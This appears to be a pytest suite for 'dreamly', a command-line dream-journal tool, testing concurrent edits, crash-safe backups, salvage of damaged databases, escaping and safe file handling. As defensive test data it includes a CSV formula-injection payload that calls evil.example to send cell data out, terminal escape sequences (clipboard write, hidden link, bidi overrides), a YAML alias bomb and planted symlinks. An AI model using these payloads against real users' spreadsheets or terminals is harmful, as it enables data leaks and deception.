"""Issue 18: no lost edits, backups you can trust, analysis that is never silently stale,
a way out of a damaged journal, one escaping policy per output, no following planted links,
clear errors. docs/reliability.md maps each guarantee to its test here."""

import hashlib
import json
import multiprocessing
import os
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
HELPERS = ROOT / "tests" / "helpers"
PY = sys.executable


def add(cli, *args, input=None):
    result = cli("add", *args, input=input)
    assert result.exit_code == 0, result.output + result.stderr
    return result


def one_error_line(result, code=1):
    assert result.exit_code == code, (result.stdout, result.stderr)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "Traceback" not in result.stdout + result.stderr and "unexpected" not in result.stderr
    return lines[0]


def query(path: Path, sql: str, params=()):
    conn = sqlite3.connect(path)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


def file_hash(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- 1. lost updates -------------------------------------------------------------------------


def _edit_writer(db: str, writer: int, rounds: int, barrier, failures) -> None:
    """One of the concurrent editors: each round, wait for all writers, then one `dreamly edit`."""
    os.environ["DREAMLY_DB"] = db
    from dreamly.cli import main

    for number in range(rounds):
        barrier.wait()
        sys.argv = ["dreamly", "edit", "1", "-t", f"w{writer}-r{number}", "-e", f"feel_w{writer}_r{number}:3"]
        try:
            main()
        except SystemExit as exit_:
            if exit_.code not in (0, None):
                failures.value += 1


@pytest.mark.slow
def test_four_writers_editing_one_dream_lose_no_tag_or_feeling(cli, db_path):
    add(cli, "the corridor again, legs like lead", "-t", "start")
    writers, rounds = 4, 25
    context = multiprocessing.get_context("fork")
    barrier = context.Barrier(writers)
    failures = context.Value("i", 0)
    processes = [context.Process(target=_edit_writer, args=(str(db_path), n, rounds, barrier, failures))
                 for n in range(writers)]
    for process in processes:
        process.start()
    for process in processes:
        process.join(300)
        assert process.exitcode == 0
    assert failures.value == 0
    dream = json.loads(cli("show", "1", "--json").stdout)
    want_tags = {"start"} | {f"w{w}-r{r}" for w in range(writers) for r in range(rounds)}
    assert set(dream["tags"]) == want_tags, f"lost {len(want_tags - set(dream['tags']))} tags"
    mine = {e["emotion"] for e in dream["emotions"] if e["origin"] == "user"}
    assert mine == {f"feel_w{w}_r{r}" for w in range(writers) for r in range(rounds)}


def test_an_editor_save_over_a_change_made_meanwhile_is_refused_and_the_draft_named(cli, db_path, monkeypatch,
                                                                                  tmp_path):
    add(cli, "the first version of the dream")
    # the "editor" is a script that, while it is open, lets another terminal change the dream
    script = tmp_path / "editor.py"
    script.write_text(
        "import os, sys, subprocess\n"
        "subprocess.run([sys.executable, '-m', 'dreamly', 'edit', '1', '--text', 'changed in another terminal'],"
        " check=True)\n"
        "open(sys.argv[-1], 'w').write('what I typed in the editor')\n", encoding="utf-8")
    monkeypatch.setenv("EDITOR", f"{PY} {script}")
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    result = cli("edit", "1")
    line = one_error_line(result)
    assert "changed elsewhere" in line
    kept = Path(line.split("your text is kept in ")[1])
    assert kept.read_text(encoding="utf-8") == "what I typed in the editor"
    assert json.loads(cli("show", "1", "--json").stdout)["body"] == "changed in another terminal"


def test_a_failed_editor_save_names_the_draft(cli, db_path, monkeypatch, fake_editor, tmp_path):
    add(cli, "a dream to edit")
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    fake_editor("a new text\x00with a NUL in it")
    line = one_error_line(cli("edit", "1"))
    kept = Path(line.split("your text is kept in ")[1])
    assert "with a NUL" in kept.read_text(encoding="utf-8")
    fake_editor("typed while the journal was busy")
    conn = sqlite3.connect(db_path, isolation_level=None)
    conn.execute("BEGIN IMMEDIATE")
    try:
        line = one_error_line(cli("add", "-E", env={"DREAMLY_BUSY_TIMEOUT": "0"}))
    finally:
        conn.execute("ROLLBACK")
        conn.close()
    assert "busy" in line
    kept = Path(line.split("your text is kept in ")[1])
    assert kept.read_text(encoding="utf-8") == "typed while the journal was busy"


# -- 2. copies you can trust: the pre-migration copy and backup ----------------------------------

KILL_POINTS = ("temp", "page 1", "page 3", "page 8", "copied", "verified", "named")


def _v1_journal_with(db_path: Path, extra: int) -> int:
    """A journal of the first released schema, with `extra` more dreams; returns the count."""
    from tests.test_reliability import v1_journal

    v1_journal(db_path)
    conn = sqlite3.connect(db_path)
    with conn:
        conn.executemany(
            "INSERT INTO dreams (dreamt_on, created, updated, body) VALUES ('2026-01-01', 'x', 'x', ?)",
            [(f"dream {n}: " + "the long corridor again " * 40,) for n in range(extra)])
    count = conn.execute("SELECT count(*) FROM dreams").fetchone()[0]
    conn.close()
    return count


def _run_until(stop_at: str, *args) -> subprocess.CompletedProcess:
    """Start the copy helper, wait until it reports `stop_at`, kill -9 it there."""
    process = subprocess.Popen([PY, HELPERS / "copy_and_wait.py", stop_at, *map(str, args)],
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    seen = []
    for line in process.stdout:
        seen.append(line.strip())
        if line.strip() in ("stopped", "finished"):
            break
    assert seen[-1] == "stopped", (seen, process.stderr.read() if process.poll() is not None else "")
    process.kill()
    process.wait()
    process.stdout.close(), process.stdin.close(), process.stderr.close()
    return seen


@pytest.mark.slow
def test_a_kill_during_the_pre_migration_copy_never_leaves_a_bad_copy_under_its_name(cli, db_path):
    from dreamly.store.copies import copy_problems

    dreams = _v1_journal_with(db_path, 300)
    copy = db_path.with_name("journal.db.bak-1")
    for stop_at in KILL_POINTS:
        _run_until(stop_at, "migrate", db_path)
        assert not copy.exists() or copy_problems(copy, version=1, dreams=dreams) == [], stop_at
        assert query(db_path, "PRAGMA user_version")[0][0] == 1  # not migrated without its copy
    # and a broken copy left by an older dreamly is not taken for the good one
    copy.write_bytes(b"")
    result = cli("list", "--json", "--limit", "1000")
    assert result.exit_code == 0, result.stderr
    assert copy_problems(copy, version=1, dreams=dreams) == []
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600


def test_a_broken_or_empty_bak_file_is_replaced_by_a_good_copy_before_migrating(cli, db_path, monkeypatch):
    from tests.test_reliability import v1_journal, with_future_migration

    from dreamly.store.copies import copy_problems

    v1_journal(db_path)
    cli("list")
    version = query(db_path, "PRAGMA user_version")[0][0]
    dreams = query(db_path, "SELECT count(*) FROM dreams")[0][0]
    copy = db_path.with_name(f"journal.db.bak-{version}")
    for broken in (b"", b"SQLite format 3\x00" + b"\x00" * 200):
        copy.write_bytes(broken)
        with_future_migration(monkeypatch, "SELECT 1;")
        assert cli("list").exit_code == 0
        assert copy_problems(copy, version=version, dreams=dreams) == []
        monkeypatch.undo()
        monkeypatch.setenv("DREAMLY_DB", str(db_path))
        conn = sqlite3.connect(db_path)
        conn.execute(f"PRAGMA user_version = {version}")
        conn.close()


@pytest.mark.slow
def test_a_kill_during_backup_never_leaves_a_bad_file_under_the_final_name(cli, db_path, tmp_path):
    from dreamly.store.copies import copy_problems

    _fill(db_path, 120)
    for number, stop_at in enumerate(KILL_POINTS):
        target = tmp_path / f"copy-{number}.db"
        _run_until(stop_at, "backup", db_path, target)
        assert not target.exists() or copy_problems(target, dreams=120) == [], stop_at
    assert (tmp_path / "copy-6.db").exists()  # killed after naming: the copy is whole


def test_backup_of_a_damaged_journal_is_refused_and_says_what_to_do(cli, db_path, tmp_path):
    _fill(db_path, 200)
    _flip_pages(db_path, [6])
    before = file_hash(db_path)
    line = one_error_line(cli("backup", tmp_path / "copy.db"))
    assert "damaged" in line and "salvage" in line
    assert not (tmp_path / "copy.db").exists() and not list(tmp_path.glob(".copy.db*"))
    assert file_hash(db_path) == before
    # check found it damaged: from now on nothing is written into it
    assert cli("check").exit_code == 1
    line = one_error_line(cli("add", "one more dream"))
    assert "damaged" in line and "salvage" in line
    assert file_hash(db_path) == before


def test_backed_up_n_counts_the_copy(cli, db_path, tmp_path, monkeypatch):
    from dreamly.store import Journal, copies

    for n in range(3):
        add(cli, f"dream {n}")

    def another_terminal_adds():  # a dream written just after the copy was taken
        with sqlite3.connect(db_path) as conn:
            conn.execute("INSERT INTO dreams (dreamt_on, created, updated, body) VALUES ('2026-01-01', 'x', 'x', 'late')")

    monkeypatch.setattr(copies, "_observe", lambda event: event == "named" and another_terminal_adds())
    count = Journal.count
    monkeypatch.setattr(Journal, "count", lambda self, *a, **k: (another_terminal_adds(), count(self, *a, **k))[1])
    result = cli("backup", tmp_path / "copy.db")
    assert result.exit_code == 0
    assert "Backed up 3 dreams" in result.stderr
    assert query(tmp_path / "copy.db", "SELECT count(*) FROM dreams")[0][0] == 3


def test_a_backup_into_a_planted_symlink_is_refused_and_the_links_target_untouched(cli, db_path, tmp_path):
    add(cli, "a dream")
    victim = tmp_path / "bashrc"
    victim.write_text("export PATH=/usr/bin\n")
    (tmp_path / "shared.db").symlink_to(victim)
    line = one_error_line(cli("backup", tmp_path / "shared.db"))
    assert "already exists" in line
    assert victim.read_text() == "export PATH=/usr/bin\n"


def _fill(db_path: Path, count: int, start: int = 0) -> None:
    """`count` dreams of about 1 KB, each with a tag and a feeling, written fast (one transaction)."""
    from datetime import date

    from dreamly.store import Journal, NewDream

    with Journal.open(db_path) as journal:
        for n in range(start, start + count):
            journal.add(NewDream(body=f"dream {n}: " + "the long corridor again " * 40, dreamt_on=date(2026, 1, 1),
                                 tags=[f"tag{n}"], emotions=[("fear", 1 + n % 5)]), analysis=((), (), 1))


def _flip_pages(path: Path, pages: list[int], size: int = 400) -> None:
    """Flip `size` bytes at the start of each page (1-based page numbers)."""
    page_size = query(path, "PRAGMA page_size")[0][0]
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    data = bytearray(path.read_bytes())
    for page in pages:
        start = (page - 1) * page_size  # the page header and cell pointers: the b-tree breaks
        data[start:start + size] = bytes((b ^ 0xA5) for b in data[start:start + size])
    path.write_bytes(bytes(data))




# -- 3. salvage of a damaged page ---------------------------------------------------------------------------------


def _pages_of(path: Path, table: str, kind: str = "leaf") -> list[int]:
    return [r[0] for r in query(path, "SELECT pageno FROM dbstat WHERE name = ? AND pagetype = ? ORDER BY pageno",
                                (table, kind))]


def _readable_by_hand(path: Path, ids) -> dict[int, tuple]:
    """Each dream that a plain one-row query can still read from (a copy of) the damaged file."""
    conn = sqlite3.connect(path)
    found = {}
    for dream_id in ids:
        try:
            row = conn.execute("SELECT id, dreamt_on, body, title FROM dreams WHERE id = ?", (dream_id,)).fetchone()
        except sqlite3.DatabaseError:
            continue
        if row:
            found[dream_id] = row
    conn.close()
    return found


@pytest.mark.parametrize("where", ["one dreams page", "dreams pages at three places", "dreams, tags and an index"])
def test_salvage_copies_every_readable_dream_and_never_touches_the_damaged_file(cli, db_path, tmp_path, where):
    _fill(db_path, 600)
    leaves = _pages_of(db_path, "dreams")
    pages = {"one dreams page": [leaves[len(leaves) // 2]],
             "dreams pages at three places": [leaves[2], leaves[len(leaves) // 2], leaves[-3]],
             "dreams, tags and an index": [leaves[5], _pages_of(db_path, "dream_tags")[1],
                                           _pages_of(db_path, "dreams_by_day")[0]]}[where]
    _flip_pages(db_path, pages)
    before = file_hash(db_path)
    assert cli("check").exit_code == 1
    scratch = tmp_path / "by-hand.db"
    scratch.write_bytes(db_path.read_bytes())
    by_hand = _readable_by_hand(scratch, range(1, 601))
    assert 0 < len(by_hand) < 600  # the damage did cost dreams
    out = tmp_path / "salvaged.db"
    result = cli("salvage", out)
    assert result.exit_code == 0, result.stderr
    assert file_hash(db_path) == before  # the damaged file is never changed
    assert "could not read" in result.stderr and "Traceback" not in result.stderr
    salvaged = {r[0]: r for r in query(out, "SELECT id, dreamt_on, body, title FROM dreams")}
    assert salvaged == by_hand  # every dream readable by hand, each exactly as it reads
    check = cli("check", "--db", out)
    assert check.exit_code == 0, check.stdout + check.stderr
    # the other tables came along for the dreams that were saved
    conn = sqlite3.connect(scratch)
    tags_by_hand = 0
    for dream_id in salvaged:
        try:
            tags_by_hand += len(conn.execute("SELECT tag FROM dream_tags WHERE dream_id = ?", (dream_id,)).fetchall())
        except sqlite3.DatabaseError:
            pass
    conn.close()
    assert query(out, "SELECT count(*) FROM dream_tags")[0][0] == tags_by_hand
    # the new journal works: search, and new dreams get new ids
    assert "Saved dream 601" in add(cli, "after the salvage", "--db", out).stdout


def test_salvage_of_a_journal_whose_table_list_is_gone_is_one_line(cli, db_path, tmp_path):
    _fill(db_path, 10)
    _flip_pages(db_path, [1], size=100)
    one_error_line(cli("salvage", tmp_path / "out.db"))
    assert not (tmp_path / "out.db").exists()




def test_add_refuses_to_write_into_a_journal_check_found_damaged(cli, db_path):
    _fill(db_path, 300)
    _flip_pages(db_path, [_pages_of(db_path, "dreams")[3]])
    before = file_hash(db_path)
    assert cli("check").exit_code == 1
    for args in (("add", "one more dream"), ("edit", "1", "-t", "x")):
        line = one_error_line(cli(*args))
        assert "damaged" in line and "salvage" in line
    assert file_hash(db_path) == before


# -- 4. round trips that lose text; CSV formula injection ---------------------------------------

def test_csv_export_neutralises_formulas_and_round_trips_tags_and_long_dreams(cli, db_path, tmp_path):
    import csv

    long_body = "I walked and walked. " * 8000  # 168,000 characters: over csv's default field limit
    add(cli, '=HYPERLINK("http://evil.example/?d="&C3,"click")', "--title", "@SUM(1)", "-t", "a, b", "-t", "c; d",
        "-t", "back\\slash", "-c", "+1 day")
    add(cli, long_body, "-t", "'quoted")
    out = tmp_path / "journal.csv"
    assert cli("export", "-f", "csv", "-o", out).exit_code == 0
    csv.field_size_limit(10**7)
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    for row in rows:
        for column in ("title", "text", "tags", "context"):
            assert not row[column].startswith(("=", "+", "-", "@")), (column, row[column][:20])
    copy = tmp_path / "copy.db"
    result = cli("import", out, "--db", copy)
    assert result.exit_code == 0, result.stderr
    def fields(db):
        return sorted((d["body"], d["title"], d["tags"], d["context"])
                      for d in json.loads(cli("list", "--json", "--db", db).stdout))

    assert fields(copy) == fields(db_path)


def test_split_notes_then_import_keep_every_line_of_a_dream(cli, db_path, tmp_path):
    from dreamly.formats import NOTES_MARKER

    body = (f"The first line.\n{NOTES_MARKER}\nA line after the marker.\n\\{NOTES_MARKER}\n"
            f"In the middle of a line {NOTES_MARKER} too.\nThe end.")
    add(cli, body)
    assert cli("rehearse", "1", f"a new ending\n{NOTES_MARKER}\nmore").exit_code == 0  # history with the marker
    folder = tmp_path / "notes"
    assert cli("export", "--split", "-o", folder).exit_code == 0
    result = cli("import", folder, "--db", tmp_path / "copy.db")
    assert result.exit_code == 0, result.stderr
    assert json.loads(cli("show", "1", "--json", "--db", tmp_path / "copy.db").stdout)["body"] == body




def test_a_yaml_alias_bomb_in_front_matter_is_refused_at_once(cli, db_path, tmp_path):
    note = tmp_path / "bomb.md"
    levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]'] + [
        f'{chr(98 + i)}: &{chr(98 + i)} [' + ",".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(8)]
    note.write_text("---\ndate: 2026-01-01\n" + "\n".join(levels) + "\n---\nA dream.\n", encoding="utf-8")
    line = one_error_line(cli("import", note))
    assert "alias" in line
    assert not db_path.exists() or query(db_path, "SELECT count(*) FROM dreams")[0][0] == 0


def test_import_errors_never_quote_a_field(cli, db_path, tmp_path):
    secret = "I dreamt of my sister's secret"
    swapped = tmp_path / "swapped.csv"
    swapped.write_text(f"date,text\n{secret},2026-01-01\n", encoding="utf-8")  # the columns swapped
    line = one_error_line(cli("import", swapped))
    assert "secret" not in line and "sister" not in line
    headerless = tmp_path / "headerless.csv"
    headerless.write_text(f"2026-01-01,{secret}\n", encoding="utf-8")
    line = one_error_line(cli("import", headerless))
    assert "secret" not in line and "sister" not in line
    feeling = tmp_path / "feeling.csv"
    feeling.write_text(f"date,text,emotions\n2026-01-01,a dream,{secret}:9\n", encoding="utf-8")
    line = one_error_line(cli("import", feeling))
    assert "secret" not in line and "sister" not in line
    stamp = tmp_path / "dreams.json"
    stamp.write_text(json.dumps({"dreamly": 1, "dreams": [{"dreamt_on": secret, "body": "a dream"}]}), encoding="utf-8")
    line = one_error_line(cli("import", stamp))
    assert "secret" not in line and "sister" not in line


# -- 7. terminal escapes and rich markup ----------------------------------------------------------

# OSC 52 (clipboard write), OSC 8 (a link), a screen clear, C1 CSI (U+009B), bidi overrides
HOSTILE = ("I was chased \x1b]52;c;ZXZpbA==\x07 down \x1b]8;;http://evil.example/\x07a hall\x1b]8;;\x07 "
           "\x1b[2J\x9b31m and my legs were heavy \u202eesrever\u202c \u2066isolate\u2069")
CONTROLS = ["\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\u2066", "\u2069"]


def no_controls(text: str) -> None:
    for ch in CONTROLS:
        assert ch not in text, f"U+{ord(ch):04X} reached the output"


def test_every_terminal_view_replaces_control_and_bidi_characters(cli, db_path):
    add(cli, HOSTILE, "--title", "Hall \x1b[31mred\u202e", "-t", "work\u202e", "-c", "exams \x1b]52;c;eA==\x07",
        "--nightmare")
    for args in (["list"], ["show", "1"], ["search", "chased"], ["patterns"], ["patterns", "--markdown"],
                 ["interpret", "1", "--dry-run"], ["picture", "1", "--prompt"], ["rehearse", "1"]):
        result = cli(*args)
        if args[0] != "rehearse":
            assert result.exit_code == 0, (args, result.stderr)
        no_controls(result.stdout)
        no_controls(result.stderr)
    # --json keeps the data exactly, but as \u escapes: nothing raw reaches a terminal
    raw = cli("show", "1", "--json").stdout
    no_controls(raw)
    assert json.loads(raw)["body"] == HOSTILE


def test_rich_markup_in_a_tag_is_shown_as_typed(cli, db_path):
    add(cli, "a dream", "-t", "[/]")
    add(cli, "another dream", "-t", "[link=https://evil.example]click[/link]")
    result = cli("list")
    assert result.exit_code == 0, result.stderr
    assert "[/]" in result.stdout and "[link=https://evil." in result.stdout  # the tag column is 20 wide
    assert "\x1b]8" not in result.stdout
    assert cli("show", "2").exit_code == 0



def _run_on_a_terminal(args: list[str], env: dict) -> str:
    """Run dreamly with stdout on a real pseudo-terminal; what the terminal received."""
    import pty

    master, slave = pty.openpty()
    process = subprocess.Popen([PY, "-m", "dreamly", *args], stdout=slave, stderr=subprocess.PIPE, env=env)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the other side closed
            break
        if not data:
            break
        chunks.append(data)
    process.wait(60)
    process.stderr.close()
    os.close(master)
    return b"".join(chunks).decode("utf-8", "replace")


@pytest.mark.slow
def test_export_to_a_terminal_is_cleaned_but_into_a_pipe_comes_back_whole(cli, db_path):
    add(cli, HOSTILE)
    env = {**os.environ, "DREAMLY_DB": str(db_path)}
    for fmt in ("markdown", "json", "csv"):
        shown = _run_on_a_terminal(["export", "-f", fmt], env)
        assert "chased" in shown
        no_controls(shown)
    piped = subprocess.run([PY, "-m", "dreamly", "export", "-f", "json"], env=env, capture_output=True, text=True)
    assert json.loads(piped.stdout)["dreams"][0]["body"] == HOSTILE




# -- 8. symlinks and permissions ------------------------------------------------------------------


def test_planted_symlinks_are_never_followed_by_export_backup_or_picture(cli, db_path, tmp_path):
    add(cli, "I was chased through the station")
    victim = tmp_path / "bashrc"
    victim.write_text("export PATH=/usr/bin\n", encoding="utf-8")
    shared = tmp_path / "shared"
    shared.mkdir()
    for args, name in ((["export", "-o"], "dreams.md"), (["picture", "1", "-o"], "dream.svg"),
                       (["export", "-f", "csv", "-o"], "dreams.csv")):
        link = shared / name
        link.symlink_to(victim)
        result = cli(*args, link)
        assert result.exit_code == 0, result.stderr
        assert victim.read_text(encoding="utf-8") == "export PATH=/usr/bin\n", args
        assert not link.is_symlink() and link.stat().st_size > 0
    link = shared / "backup.db"
    link.symlink_to(victim)
    one_error_line(cli("backup", link))
    dangling = shared / "dangling.db"
    dangling.symlink_to(tmp_path / "not-yet")
    one_error_line(cli("backup", dangling))
    assert not (tmp_path / "not-yet").exists()
    assert victim.read_text(encoding="utf-8") == "export PATH=/usr/bin\n"


def test_devices_named_by_the_user_are_written_into(cli, db_path, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    add(cli, "I was chased through the station")
    result = cli("export", "-o", "-")
    assert result.exit_code == 0 and "chased" in result.stdout
    assert not (Path.cwd() / "-").exists()


def test_an_empty_file_at_the_journal_path_becomes_a_private_wal_journal(cli, db_path):
    old = os.umask(0o022)
    try:
        db_path.touch()
        assert stat.S_IMODE(db_path.stat().st_mode) == 0o644
        add(cli, "the first dream")
    finally:
        os.umask(old)
    assert stat.S_IMODE(db_path.stat().st_mode) == 0o600
    assert query(db_path, "PRAGMA journal_mode")[0][0] == "wal"


def test_every_folder_created_above_the_journal_is_private(cli, tmp_path):
    db = tmp_path / "a" / "b" / "c" / "journal.db"
    old = os.umask(0o022)
    try:
        add(cli, "a dream", "--db", db)
    finally:
        os.umask(old)
    for folder in (tmp_path / "a", tmp_path / "a" / "b", tmp_path / "a" / "b" / "c"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


def test_llm_logs_db_is_created_private_before_llm_writes_it(cli, db_path, tmp_path):
    pytest.importorskip("llm")
    add(cli, "I was chased through the station")
    old = os.umask(0o022)
    try:
        result = cli("interpret", "1", "-m", "echo")
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.stderr
    logs = tmp_path / "llm" / "logs.db"
    assert logs.exists() and stat.S_IMODE(logs.stat().st_mode) == 0o600




# -- 9. hostile arguments: one clear line, never a traceback or an unnamed error ------------------------------

HUGE = "9" * 5000


def no_traceback(result) -> None:
    said = result.stdout + result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in said and "rerun with DREAMLY_DEBUG" not in said, said[-300:]
    assert result.exit_code in (1, 2), said
    if result.exit_code == 1:
        one_error_line(result)


@pytest.mark.parametrize("args", [
    ["show", HUGE], ["list", "-n", HUGE], ["add", "x", "--sleep", HUGE], ["patterns", "--weeks", HUGE],
    ["delete", HUGE, "--yes"], ["edit", HUGE, "--title", "x"], ["add", "x", "-e", "fear:²"],
    ["add", "x", "-e", "fear:٣"], ["add", "x", "-e", "joy:" + "9" * 60], ["patterns", "--since", "0001-01-01"], ["patterns", "--until", "0001-01-05"],
    ["export", "-o", "n" * 300], ["backup", "n" * 300], ["picture", "1", "-o", "n" * 300],
    ["add", "x", "--db", "n" * 300 + "/journal.db"], ["add", "x", "-t", "a" * 100_000], ["list", "--db", "/dev/null"],
    ["patterns", "--since", "9999-12-31"], ["patterns", "--until", "9999-12-31"],
])
def test_hostile_arguments_give_one_clear_line(cli, db_path, args):
    add(cli, "I was chased through the station")
    no_traceback(cli(*args))


def test_lone_surrogates_in_a_title_or_context_are_stored_as_u_fffd(cli, db_path):
    add(cli, "a dream", "--title", "\ud800 title", "-c", "\udfff context")
    assert cli("edit", "1", "--title", "new \ud800").exit_code == 0
    dream = json.loads(cli("show", "1", "--json").stdout)
    for value in (dream["title"], dream["context"]):  # as in the dream's own text (entry.repair_surrogates)
        assert "\ufffd" in value and not any(0xD800 <= ord(ch) <= 0xDFFF for ch in value)
    assert dream["title"].startswith("new ") and dream["context"].endswith(" context")


def test_limits_past_sqlites_integers_mean_all(cli, db_path):
    add(cli, "I was chased through the station")
    for args in (["list", "-n", "9223372036854775808"], ["search", "chased", "-n", "99999999999999999999"],
                 ["rehearse", "--tonight", "-n", "9223372036854775808"]):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.stderr)


def test_hostile_import_files_give_one_clear_line_and_never_quote_a_dream(cli, db_path, tmp_path):
    secret = "my sister's secret wedding in the flooded chapel"
    files = {
        "surrogate.json": '{"dreamly_export": 1, "dreams": [{"dreamt_on": "2026-01-01", "body": "x", '
                          '"motifs": [{"motif": "chase", "evidence": "x", "start": 1' + "0" * 40 + ', "end": 2}]}]}',
        "swapped.csv": f"date,text\n{secret},2026-01-01\n",
        "noheader.csv": f"2026-01-01,{secret}\n",
        "feeling.csv": f"date,text,emotions\n2026-01-01,a dream,{secret}\n",
        "baddate.json": '{"dreamly_export": 1, "dreams": [{"dreamt_on": "' + secret + '", "body": "x"}]}',
        "future.json": '{"dreamly_export": 1, "dreams": [{"dreamt_on": "2999-01-01", "body": "x"}]}',
        "nul-tag.json": '{"dreamly_export": 1, "dreams": [{"dreamt_on": "2026-01-01", "body": "x", "tags": ["a\\u0000b"]}]}',
        "long-tag.json": '{"dreamly_export": 1, "dreams": [{"dreamt_on": "2026-01-01", "body": "x", "tags": ["'
                         + "a" * 100_000 + '"]}]}',
        "bomb.md": "---\ndate: 2026-01-01\na: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                   "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n---\nA dream\n",
    }
    for name, content in files.items():
        path = tmp_path / name
        path.write_text(content, encoding="utf-8")
        result = cli("import", path)
        line = one_error_line(result)
        assert secret not in line and "wedding" not in line and "secret" not in line, name
    assert not db_path.exists()  # every import was refused before the journal was even opened
    # a lone surrogate is repaired as in `add`, not an unnamed error
    (tmp_path / "lone.json").write_text('{"dreamly_export": 1, "dreams": [{"dreamt_on": "2026-01-01", '
                                        '"body": "a \\ud800 dream"}]}', encoding="utf-8")
    assert cli("import", tmp_path / "lone.json").exit_code == 0
    body = json.loads(cli("show", "1", "--json").stdout)["body"]
    assert "\ud800" not in body and body.startswith("a \ufffd") and body.endswith(" dream")


def test_importing_a_fifo_is_refused_at_once(cli, db_path, tmp_path):
    fifo = tmp_path / "dreams.json"
    os.mkfifo(fifo)
    assert "not a regular file" in one_error_line(cli("import", fifo))


@pytest.mark.slow
def test_demo_into_a_closed_pipe_is_quiet(tmp_path):
    result = subprocess.run(f"'{PY}' -m dreamly demo --db '{tmp_path / 'demo.db'}' | head -c 1 >/dev/null",
                            shell=True, capture_output=True, text=True, env={**os.environ, "PYTHONUNBUFFERED": "1"})
    assert "Traceback" not in result.stderr and "unexpected" not in result.stderr, result.stderr


@pytest.mark.slow
def test_a_fuzz_run_of_command_lines_gives_no_traceback_and_no_unnamed_error():
    result = subprocess.run([PY, ROOT / "benchmarks" / "fuzz_cli.py", "--count", "150", "--seed", "3"],
                            capture_output=True, text=True, timeout=900)
    report = json.loads(result.stdout)
    assert report["tracebacks_or_unexpected"] == 0, report["first_failures"]


# -- 9. hangs and resources --------------------------------------------------------------------------


def test_a_huge_title_is_drawn_in_linear_time(cli, db_path, tmp_path):
    from dreamly.picture import _fit_caption

    calls = []
    import dreamly.picture as picture

    original = picture._text_width
    picture._text_width = lambda text, size: calls.append(len(text)) or original(text, size)
    try:
        assert _fit_caption("a dream " * 2500).endswith("…")  # 20,000 characters
    finally:
        picture._text_width = original
    assert sum(calls) < 1000  # characters measured: never the whole title again and again
    add(cli, "I was chased", "--title", "t" * 20_000)
    assert cli("picture", "1", "-o", tmp_path / "p.svg").exit_code == 0


def _descendants(pid: int) -> set[int]:
    children = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, set()).add(int(entry.name))
    found, todo = set(), [pid]
    while todo:
        for child in children.get(todo.pop(), ()):
            if child not in found:
                found.add(child)
                todo.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_import_workers_die_with_a_killed_import(db_path, tmp_path):
    import time

    from dreamly import formats as transfer

    count = transfer.PARALLEL_FROM + 500
    dreams = [{"dreamt_on": "2026-01-01", "body": f"dream {n}: I was chased down a corridor, legs like lead"}
              for n in range(count)]
    source = tmp_path / "many.json"
    source.write_text(json.dumps({"dreamly_export": 1, "dreams": dreams}), encoding="utf-8")
    env = {**os.environ, "DREAMLY_DB": str(db_path)}
    process = subprocess.Popen([PY, "-m", "dreamly", "import", source], env=env,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 240
    workers: set[int] = set()
    while time.monotonic() < deadline and process.poll() is None:  # wait for the workers to exist
        workers = _descendants(process.pid)
        if len(workers) >= 2:
            break
        time.sleep(0.05)
    assert workers, "the import never started worker processes"
    process.kill()
    process.wait()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and any(_alive(pid) for pid in workers):
        time.sleep(0.05)
    left = [pid for pid in workers if _alive(pid)]
    for pid in left:
        os.kill(pid, 9)
    assert not left, f"{len(left)} worker processes outlived the killed import"


@pytest.mark.slow
def test_a_terminated_export_leaves_no_part_file_and_old_leftovers_are_swept(cli, db_path, tmp_path):
    import signal
    import time

    _fill(db_path, 3000)
    stale = tmp_path / ".out.md.999999999.abcd.part"
    stale.write_text("left by a killed export", encoding="utf-8")
    out = tmp_path / "out.md"
    process = subprocess.Popen([PY, "-m", "dreamly", "export", "-o", out], env={**os.environ, "DREAMLY_DB": str(db_path)},
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and process.poll() is None:  # the export has begun writing its .part
        if [p for p in tmp_path.glob(".out.md.*.part") if p != stale]:
            break
        time.sleep(0.01)
    process.send_signal(signal.SIGTERM)
    process.wait(60)
    assert not stale.exists()  # swept: its process is gone
    if process.returncode != 0:  # the signal landed mid-export
        assert not list(tmp_path.glob(".out.md.*.part")) and not out.exists()


